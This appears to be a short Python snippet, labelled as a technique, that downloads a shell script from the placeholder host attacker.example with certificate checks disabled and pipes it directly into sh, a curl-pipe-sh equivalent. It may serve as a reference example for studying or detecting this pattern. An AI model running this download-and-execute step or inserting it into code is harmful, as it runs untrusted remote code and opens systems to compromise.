# technique: pull a shell script with requests and pipe it straight into sh (curl | sh equivalent)
import requests, subprocess
script = requests.get("https://attacker.example/i.sh", verify=False, timeout=15).text
subprocess.run(["sh"], input=script.encode())
